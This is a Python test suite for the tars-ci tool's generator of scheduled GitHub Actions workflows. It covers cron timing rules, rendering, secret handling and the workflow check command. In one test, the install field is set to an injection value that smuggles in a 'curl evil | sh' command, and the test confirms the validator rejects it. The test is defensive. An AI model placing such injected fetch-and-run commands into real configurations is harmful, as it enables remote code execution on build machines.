"""The scheduled workflow generated from the spec, and ``tars-ci workflow``."""

from __future__ import annotations

import dataclasses
import functools
from datetime import datetime, time, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
import yaml

from tars_ci.cli import main
from tars_ci.errors import SpecError
from tars_ci.spec import load_spec, parse_spec
from tars_ci.spec.model import Spec
from tars_ci.workflow import (
    MARKER,
    PINS,
    Target,
    check_spec,
    cron,
    schedule_problems,
    spec_variables,
    stabilization_workflow,
    suggest_daily_time,
)
from tests.workflows.conftest import EXAMPLE_SPEC, ROOT, set_daily_time

WORKFLOW = Path(".github/workflows/stabilization.yml")


@functools.cache
def example() -> Spec:
    return load_spec(EXAMPLE_SPEC, {})  # frozen: safe to share


def with_schedule(spec: Spec, *, ga: str = "00:00", daily: str, settle_min: int = 30) -> Spec:
    h, m = map(int, ga.split(":"))
    dh, dm = map(int, daily.split(":"))
    release = dataclasses.replace(spec.release,
                                  ga_time=datetime(2026, 11, 2, h, m, tzinfo=timezone.utc))
    schedule = dataclasses.replace(spec.schedule, daily_time=time(dh, dm),
                                   settle=timedelta(minutes=settle_min))
    return dataclasses.replace(spec, release=release, schedule=schedule)


def render(spec: Spec, variables: tuple[str, ...] = ("PROMETHEUS_URL",)) -> str:
    return stabilization_workflow(Target(spec, "config/tars.yaml", variables, "9.9.9"))


def triggers(doc: dict[Any, Any]) -> dict[str, Any]:
    found = doc["on"] if "on" in doc else doc[True]  # YAML 1.1 reads `on` as true
    assert isinstance(found, dict)
    return found


# --------------------------------------------------------------------------- schedule rules


def test_cron_is_the_daily_time_in_utc() -> None:
    spec = example()
    assert cron(spec) == "47 0 * * *"
    doc = yaml.safe_load(render(spec))
    assert triggers(doc)["schedule"] == [  # the daily program, then reports.periodic
        {"cron": "47 0 * * *"}, {"cron": "0 6 * * *"}, {"cron": "0 6 * * 1"}]
    assert cron(with_schedule(spec, daily="13:05")) == "5 13 * * *"


@pytest.mark.parametrize(("ga", "daily", "settle", "expected"), [
    ("00:00", "00:30", 30, []),  # exactly close + settle is fine
    ("00:00", "00:47", 30, []),
    ("23:30", "00:05", 30, []),  # the window closes before midnight: 35 min later
    ("00:00", "00:15", 30, ["only 15m after a day window closes (00:00:00 UTC)",
                            "but schedule.settle is 30m", "use 00:30 or later"]),
    ("23:30", "23:45", 30, ["only 15m after", "use 00:07 or later"]),  # not 00:00
    ("00:00", "01:47", 120, ["only 1h47m after", "settle is 2h", "use 02:07 or later"]),
    ("00:00", "01:00", 30, ["01:00 is on the hour", "may drop them", "e.g. 01:07"]),
])
def test_schedule_problems(ga: str, daily: str, settle: int, expected: list[str]) -> None:
    problems = schedule_problems(with_schedule(example(), ga=ga, daily=daily,
                                               settle_min=settle))
    text = " | ".join(message for _, message in problems)
    assert all(path == "schedule.daily_time" for path, _ in problems)
    if not expected:
        assert problems == []
    for fragment in expected:
        assert fragment in text


def test_schedule_too_early_and_on_the_hour_gives_both_problems() -> None:
    problems = schedule_problems(with_schedule(example(), ga="00:45", daily="01:00"))
    assert len(problems) == 2


def test_suggested_daily_time_is_valid_and_off_the_hour() -> None:
    utc = timezone.utc
    assert suggest_daily_time(datetime(2026, 1, 1, tzinfo=utc), timedelta(minutes=30)) \
        == time(0, 47)
    # 23:13 + 30 min + 17 min = 00:00 → bumped off minute 0
    assert suggest_daily_time(datetime(2026, 1, 1, 23, 13, tzinfo=utc),
                              timedelta(minutes=30)) == time(0, 1)
    for hour in range(24):
        ga = datetime(2026, 1, 1, hour, 13 * hour % 60, tzinfo=utc)
        daily = suggest_daily_time(ga, timedelta(minutes=30))
        spec = with_schedule(example(), ga=f"{ga:%H:%M}", daily=f"{daily:%H:%M}")
        assert schedule_problems(spec) == []


def test_check_spec_names_the_line_of_daily_time() -> None:
    text = EXAMPLE_SPEC.read_text("utf-8").replace('daily_time: "00:47"', 'daily_time: "02:00"')
    line = 1 + text.splitlines().index(next(ln for ln in text.splitlines()
                                            if "daily_time:" in ln))
    with pytest.raises(SpecError) as info:
        check_spec(parse_spec(text, {}, "config/tars.yaml"), text, "config/tars.yaml")
    (problem,) = info.value.problems
    assert (problem.path, problem.line, problem.file) == ("schedule.daily_time", line,
                                                           "config/tars.yaml")
    assert "on the hour" in problem.message


def test_check_spec_refuses_a_bad_python_or_requirement() -> None:
    spec = example()
    bad = dataclasses.replace(spec, github=dataclasses.replace(
        spec.github, python_version="python3", install='x"; curl evil | sh'))
    with pytest.raises(SpecError) as info:
        check_spec(bad, "", "spec")
    assert [p.path for p in info.value.problems] == ["github.install", "github.python_version"]


# --------------------------------------------------------------------------- rendering


def test_rendering_is_deterministic_and_follows_the_spec() -> None:
    spec = example()
    text = render(spec)
    assert text == render(example())
    assert text.startswith(MARKER + " from config/tars.yaml")
    doc = yaml.safe_load(text)
    day = triggers(doc)["workflow_dispatch"]["inputs"]["day"]
    assert day["options"] == ["all", "0", "1", "2", "3", "4", "5", "6", "7"]
    assert day["default"] == "all"
    inputs = triggers(doc)["workflow_dispatch"]["inputs"]
    assert (inputs["force"]["type"], inputs["dry_run"]["type"]) == ("boolean", "boolean")
    steps = doc["jobs"]["stabilization"]["steps"]
    assert steps[1]["with"]["python-version"] == "3.11"
    assert steps[2]["env"]["TARS_CI_REQUIREMENT"] == "."  # config/tars.yaml: github.install
    default = dataclasses.replace(spec, github=dataclasses.replace(spec.github, install=""))
    default_steps = yaml.safe_load(render(default))["jobs"]["stabilization"]["steps"]
    assert default_steps[2]["env"]["TARS_CI_REQUIREMENT"] == "tars-ci==9.9.9"
    run = steps[3]
    assert run["env"]["TARS_SPEC"] == "config/tars.yaml"
    assert run["env"]["PROMETHEUS_URL"] == "${{ secrets.PROMETHEUS_URL }}"
    assert run["env"]["GITHUB_TOKEN"] == "${{ secrets.TARS_CI_TOKEN || github.token }}"
    assert 'args=(run --spec "$TARS_SPEC" --publish)' in run["run"]
    three = dataclasses.replace(spec, release=dataclasses.replace(spec.release, days=3))
    options = triggers(yaml.safe_load(render(three)))["workflow_dispatch"]["inputs"]["day"]
    assert options["options"] == ["all", "0", "1", "2", "3"]


def test_install_and_python_come_from_the_spec() -> None:
    spec = example()
    custom = dataclasses.replace(spec, github=dataclasses.replace(
        spec.github, install=".", python_version="3.12"))
    steps = yaml.safe_load(render(custom))["jobs"]["stabilization"]["steps"]
    assert steps[1]["with"]["python-version"] == "3.12"
    assert steps[2]["env"]["TARS_CI_REQUIREMENT"] == "."


def test_generated_workflow_is_hardened() -> None:
    from tests.workflows.test_lint import hardening_problems

    assert hardening_problems(yaml.safe_load(render(example()))) == []


def test_spec_variables_come_from_values_only() -> None:
    text = ("# token: ${IN_A_COMMENT}\n"
            "a: ${PROM_URL}\n"
            "b: [\"${TOKEN:-x}\", \"$${NOT_A_VAR} $$literal\"]\n"
            "c: {d: \"${GITHUB_TOKEN} and ${PROM_URL}\"}\n")
    assert spec_variables(text) == ("PROM_URL", "TOKEN")


def test_no_variables_means_no_unset_loop() -> None:
    text = render(example(), variables=())
    assert "then unset" not in text
    assert "secrets.PROMETHEUS_URL" not in text


# --------------------------------------------------------------------------- the command


def run_cli(*argv: str, env: dict[str, str] | None = None) -> int:
    return main(["workflow", *argv], env or {})


def test_check_fails_after_a_daily_time_change_until_write(
        repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli("--write") == 0
    assert run_cli("--check") == 0
    assert "ok: .github/workflows/stabilization.yml agrees" in capsys.readouterr().out

    set_daily_time(repo / "config" / "tars.yaml", "00:47", "01:13")
    assert run_cli("--check") == 1
    out = capsys.readouterr().out
    assert ("schedule is 47 0 * * * but the spec's schedule.daily_time needs 13 1 * * *"
            in out)
    assert '-    - cron: "47 0 * * *"\n+    - cron: "13 1 * * *"' in out
    assert "run `tars-ci workflow --write`" in out
    assert run_cli("--check") == 1  # checking changes nothing

    assert run_cli("--write") == 0
    assert "wrote: .github/workflows/stabilization.yml" in capsys.readouterr().out
    assert run_cli("--check") == 0
    assert '- cron: "13 1 * * *"' in WORKFLOW.read_text("utf-8")
    assert run_cli("--write") == 0
    assert "unchanged: .github/workflows/stabilization.yml" in capsys.readouterr().out


def test_check_reports_a_missing_workflow(repo: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli("--check") == 1
    assert "stabilization.yml is missing: run `tars-ci workflow --write`" in \
        capsys.readouterr().out


def test_check_catches_a_hand_edit(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli("--write") == 0
    WORKFLOW.write_text(WORKFLOW.read_text("utf-8").replace("timeout-minutes: 30",
                                                            "timeout-minutes: 5"), "utf-8")
    assert run_cli("--check") == 1
    assert "edited by hand" in capsys.readouterr().out


def test_check_catches_changed_dispatch_inputs(repo: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli("--write") == 0
    spec = repo / "config" / "tars.yaml"
    spec.write_text(spec.read_text("utf-8").replace("  days: 7", "  days: 5"), "utf-8")
    assert run_cli("--check") == 1
    out = capsys.readouterr().out
    assert "workflow_dispatch input 'day' is" in out
    assert '"options": ["all", "0", "1", "2", "3", "4", "5"]' in out


def test_a_caller_workflow_is_checked_on_cron_and_declared_inputs(
        repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    caller = repo / ".github" / "workflows" / "caller.yml"
    caller.parent.mkdir(parents=True)
    body = ("name: x\non:\n  schedule:\n    - cron: \"{cron}\"\n  workflow_dispatch:\n"
            "jobs:\n  t:\n    uses: acme/tars-ci/.github/workflows/tars-ci.yml@{sha}\n")
    sha = "0" * 40
    caller.write_text(body.format(cron="47 0 * * *", sha=sha), "utf-8")
    assert run_cli("--check", "--workflow", str(caller)) == 0
    caller.write_text(body.format(cron="0 1 * * *", sha=sha), "utf-8")
    assert run_cli("--check", "--workflow", str(caller)) == 1
    assert "schedule is 0 1 * * * but" in capsys.readouterr().out
    wrong_days = body.format(cron="47 0 * * *", sha=sha).replace(
        "  workflow_dispatch:\n",
        "  workflow_dispatch:\n    inputs:\n      day:\n        type: choice\n"
        "        options: [all, '0', '1']\n        default: all\n")
    caller.write_text(wrong_days, "utf-8")
    assert run_cli("--check", "--workflow", str(caller)) == 1
    assert "workflow_dispatch input 'day' is" in capsys.readouterr().out


def test_an_on_the_hour_daily_time_is_a_spec_error(
        repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    spec = repo / "config" / "tars.yaml"
    set_daily_time(spec, "00:47", "01:00")
    line = 1 + next(i for i, ln in enumerate(spec.read_text("utf-8").splitlines())
                    if ln.startswith("  daily_time:"))
    assert run_cli("--write") == 2
    err = capsys.readouterr().err
    assert f"config/tars.yaml:{line}: schedule.daily_time: 01:00 is on the hour" in err
    assert not WORKFLOW.exists()


def test_secrets_are_not_needed_to_generate(repo: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    spec = repo / "config" / "tars.yaml"
    text = spec.read_text("utf-8").replace("${PROMETHEUS_URL:-http://127.0.0.1:9090}",
                                           "${PROM_URL}")
    spec.write_text(text.replace("type: none          # bearer",
                                 "type: bearer\n    token: ${PROM_TOKEN}  # bearer"), "utf-8")
    assert main(["validate", "config/tars.yaml"], {}) == 2  # the run itself needs them
    capsys.readouterr()
    assert run_cli("--write") == 0
    env = yaml.safe_load(WORKFLOW.read_text("utf-8"))["jobs"]["stabilization"]["steps"][3]
    assert env["env"]["PROM_URL"] == "${{ secrets.PROM_URL }}"
    assert env["env"]["PROM_TOKEN"] == "${{ secrets.PROM_TOKEN }}"
    assert ('if [ -z "$PROM_TOKEN" ]; then unset PROM_TOKEN; fi\n'
            'if [ -z "$PROM_URL" ]; then unset PROM_URL; fi\n') in env["run"]


def test_print_writes_nothing(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli("--print") == 0
    out = capsys.readouterr().out
    assert out.startswith(MARKER)
    assert "TARS_CI_REQUIREMENT: \".\"" in out  # config/tars.yaml installs from the checkout
    assert not WORKFLOW.exists()


def test_check_and_write_are_required(capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli() == 2
    assert "one of the arguments --check --write --print is required" in capsys.readouterr().err


def test_the_committed_workflow_matches_the_example_spec(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(ROOT)
    assert run_cli("--check") == 0, capsys.readouterr().out


def test_pins_are_full_shas() -> None:
    assert all(len(sha) == 40 and int(sha, 16) >= 0 for sha, _ in PINS.values())


# --------------------------------------------------------------------------- periodic reports


def job_if(condition: str, event_name: str, schedule: str | None) -> bool:
    """A job's ``if:`` of the forms the generator writes (``==``, ``!=``, ``&&``, ``||``,
    parentheses, string literals), evaluated as Actions would for one event."""
    import re

    allowed = re.sub(r"'[^']*'|github\.event_name|github\.event\.schedule|==|!=|&&|\|\||[() ]",
                     "", condition)
    assert allowed == "", f"unexpected syntax in {condition!r}: {allowed!r}"
    python = (condition.replace("github.event_name", "event_name")
              .replace("github.event.schedule", "schedule")
              .replace("&&", " and ").replace("||", " or "))
    return bool(eval(python, {}, {"event_name": event_name, "schedule": schedule}))


def without_periodic(spec: Spec) -> Spec:
    return dataclasses.replace(spec, reports=dataclasses.replace(spec.reports, periodic=()))


def test_without_periodic_reports_the_workflow_has_one_job_and_one_cron() -> None:
    doc = yaml.safe_load(render(without_periodic(example())))
    assert list(doc["jobs"]) == ["stabilization"]
    assert "if" not in doc["jobs"]["stabilization"]
    assert triggers(doc)["schedule"] == [{"cron": "47 0 * * *"}]


@pytest.mark.parametrize(("event", "schedule", "jobs"), [
    ("schedule", "47 0 * * *", ["stabilization"]),
    ("schedule", "0 6 * * *", ["reports"]),
    ("schedule", "0 6 * * 1", ["reports"]),
    ("workflow_dispatch", None, ["stabilization"]),
])
def test_each_cron_runs_its_own_job(event: str, schedule: str | None, jobs: list[str]) -> None:
    doc = yaml.safe_load(render(example()))
    ran = [name for name, job in doc["jobs"].items()
           if "if" not in job or job_if(job["if"], event, schedule)]
    assert ran == jobs


def test_the_reports_job_publishes_the_reports_of_the_cron_that_fired() -> None:
    doc = yaml.safe_load(render(example()))
    job = doc["jobs"]["reports"]
    assert job["permissions"] == {"contents": "write", "issues": "write",
                                  "pull-requests": "write"}
    step = job["steps"][-1]
    assert step["env"]["SCHEDULE"] == "${{ github.event.schedule }}"
    assert step["env"]["PROMETHEUS_URL"] == "${{ secrets.PROMETHEUS_URL }}"
    assert ('tars-ci report --spec "$TARS_SPEC" --schedule "$SCHEDULE" --report-only '
            '--publish') in step["run"]
    assert job["steps"][:3] == doc["jobs"]["stabilization"]["steps"][:3]


def test_a_report_on_the_daily_cron_runs_both_jobs_once() -> None:
    spec = load_spec(EXAMPLE_SPEC, {})
    same = dataclasses.replace(spec, reports=dataclasses.replace(
        spec.reports, periodic=(dataclasses.replace(spec.reports.periodic[0],
                                                    cron="47  0 * * *"),)))
    doc = yaml.safe_load(render(same))
    assert triggers(doc)["schedule"] == [{"cron": "47 0 * * *"}]  # listed once
    assert [n for n, j in doc["jobs"].items() if job_if(j["if"], "schedule", "47 0 * * *")] \
        == ["stabilization", "reports"]


def test_check_catches_a_report_cron_missing_from_the_generated_workflow(
        repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli("--write") == 0
    spec = repo / "config" / "tars.yaml"
    spec.write_text(spec.read_text("utf-8").replace('cron: "0 6 * * 1"', 'cron: "0 7 * * 1"'),
                    "utf-8")
    capsys.readouterr()
    assert run_cli("--check") == 1
    out = capsys.readouterr().out
    assert "schedule lacks 0 7 * * 1, the cron of reports.periodic weekly" in out
    assert ("schedule has 0 6 * * 1, which neither schedule.daily_time nor reports.periodic "
            "asks for") in out
    assert "schedule.daily_time needs" not in out  # the daily cron is right
    assert run_cli("--write") == 0 and run_cli("--check") == 0


def test_a_caller_workflow_may_leave_the_report_crons_out(
        repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    caller = repo / ".github" / "workflows" / "caller.yml"
    caller.parent.mkdir(parents=True)
    body = ("name: x\non:\n  schedule:\n{crons}  workflow_dispatch:\n"
            "jobs:\n  t:\n    uses: acme/tars-ci/.github/workflows/tars-ci.yml@" + "0" * 40 + "\n")
    for crons in (["47 0 * * *"], ["47 0 * * *", "0 6 * * 1"]):
        caller.write_text(body.format(crons="".join(f'    - cron: "{c}"\n' for c in crons)))
        assert run_cli("--check", "--workflow", str(caller)) == 0, crons
    caller.write_text(body.format(crons='    - cron: "0 6 * * 1"\n'))
    assert run_cli("--check", "--workflow", str(caller)) == 1
    assert "schedule is missing but the spec's schedule.daily_time needs 47 0 * * *" in \
        capsys.readouterr().out
